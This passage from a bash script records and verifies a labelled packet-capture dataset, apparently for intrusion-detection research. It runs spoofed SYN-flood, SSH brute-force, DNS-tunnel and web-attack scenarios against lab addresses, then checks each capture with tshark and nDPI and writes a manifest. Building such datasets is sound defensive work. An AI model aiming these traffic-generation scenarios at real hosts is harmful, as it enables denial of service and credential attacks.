  record "$s" synflood syn-flood-spoofed 256 "net $SPOOF_NET.0/24" "$SPOOF_NET.0/24" "$SPOOF_TARGET/32" "$SPOOF_PORT" tcp attack_synflood_spoofed
  record "$s" bruteforce ssh-brute 0 "host $A_BRUTE" "$A_BRUTE/32" "$X" "$SSH_PORT" tcp attack_sshbrute
  record "$s" dnstunnel dns-tunnel 0 "host $A_TUNNEL" "$A_TUNNEL/32" "$D" 53 udp attack_dnstunnel
  record "$s" webattack web-attack 0 "host $A_WEB" "$A_WEB/32" "$H" "$HTTP_PORT" tcp attack_web

  stop_servers
}

# ---------------------------------------------------------------------------------------------- verify
# Per file: capinfos counts, sha256, and the share of packets to or from the scenario's own addresses (must be 100%).
verify_and_manifest() {
  local man=$STAGE/manifest.csv f rel session label scen pk bytes sha first last src ndpi nip
  echo "file,session,label,scenario,packets,file_bytes,sha256,first_packet,last_packet,src_cidr,packets_from_src,packets_to_or_from_src,ndpi_flows_by_protocol" >"$man"
  tail -n +2 "$LABELS" | while IFS=, read -r _ _ src _ _ _ label rel _; do
    f=$STAGE/$rel
    session=${rel%%/*}; scen=$(basename "$rel" .pcap)
    pk=$(capinfos -M -c -T "$f" | tail -1 | cut -f2)
    bytes=$(stat -c %s "$f")
    sha=$(sha256sum "$f" | cut -d' ' -f1)
    first=$(capinfos -T -a -r "$f" | cut -f2)
    last=$(capinfos -T -e -r "$f" | cut -f2)
    local from both
    from=$(tshark -r "$f" -Y "ip.src == $src" 2>/dev/null | wc -l)
    both=$(tshark -r "$f" -Y "ip.src == $src || ip.dst == $src" 2>/dev/null | wc -l)
    [[ "$pk" -gt 0 ]] || die "$rel is empty"
    [[ "$from" -gt 0 && "$both" -eq "$pk" ]] || die "$rel: $both of $pk packets involve $src ($from from it)"
    # nDPI must read every packet; its per-protocol flow counts go in the manifest.
    ndpi=$(ndpiReader -i "$f" 2>&1) || die "ndpiReader failed on $rel"
    nip=$(awk '/IP packets:/{print $3; exit}' <<<"$ndpi")
    [[ "$nip" == "$pk" ]] || die "$rel: ndpiReader saw $nip IP packets, capinfos $pk"
    ndpi=$(awk '/Detected protocols:/{f=1;next} /Protocol statistics:/{f=0} f&&/packets:/{printf "%s%s:%s", sep, $1, $NF; sep=";"}' <<<"$ndpi")
    echo "$rel,$session,$label,$scen,$pk,$bytes,$sha,$first,$last,$src,$from,$both,$ndpi" >>"$man"
  done
}

# ---------------------------------------------------------------------------------------------- main
sessions=(train holdout)
[[ "$ONLY" != all ]] && sessions=("$ONLY")
for s in "${sessions[@]}"; do
  say "session $s"
  record_session "$s"
  [[ "$s" == train && ${#sessions[@]} -gt 1 ]] && sleep 20   # the holdout is a separate recording, later
done

say "verifying"
verify_and_manifest

{
  echo "tcpdump: $(tcpdump --version 2>&1 | head -1)"
  echo "libpcap: $(tcpdump --version 2>&1 | sed -n 2p)"
  echo "nmap: $(nmap --version | head -1)"
  echo "hping3: $(hping3 --version 2>&1 | head -1)"
  echo "curl: $(curl --version | head -1)"
  echo "dig: $(dig -v 2>&1 | head -1)"
  echo "dnsmasq: $(dnsmasq --version | head -1)"
  echo "openssl: $(openssl version)"
  echo "openssh: $(ssh -V 2>&1)"
  echo "sshpass: $(sshpass -V | head -1)"
  echo "python3: $($PY --version)"
  echo "tshark: $(tshark --version 2>/dev/null | head -1)"
  echo "ndpiReader: $(ndpiReader -h 2>&1 | grep -m1 -o 'nDPI [0-9.]*')"
  echo "kernel: $(uname -sr)"
} >"$STAGE/tool-versions.txt"

# Replace outputs only now that everything succeeded.
for s in "${sessions[@]}"; do rm -rf "${HERE:?}/$s"; cp -r "$STAGE/$s" "$HERE/$s"; done
if [[ "$ONLY" == all ]]; then
  cp "$STAGE/labels.csv" "$STAGE/manifest.csv" "$STAGE/tool-versions.txt" "$HERE/"
else
  # One session regenerated: keep the other session's rows, sessions in their usual order.
  for f in labels.csv manifest.csv; do
    {
      head -1 "$STAGE/$f"
      for s in train holdout; do
        if [[ "$s" == "$ONLY" ]]; then src=$STAGE/$f; else src=$HERE/$f; fi
        tail -n +2 "$src" 2>/dev/null | grep -E "(^|,)$s/" || true
      done
    } >"$WORK/$f"
    cp "$WORK/$f" "$HERE/$f"
  done
  cp "$STAGE/tool-versions.txt" "$HERE/"
fi
"$PY" "$HERE/tools/card.py" "$HERE"
say "done: $(du -sh "$HERE" | cut -f1) in $HERE"
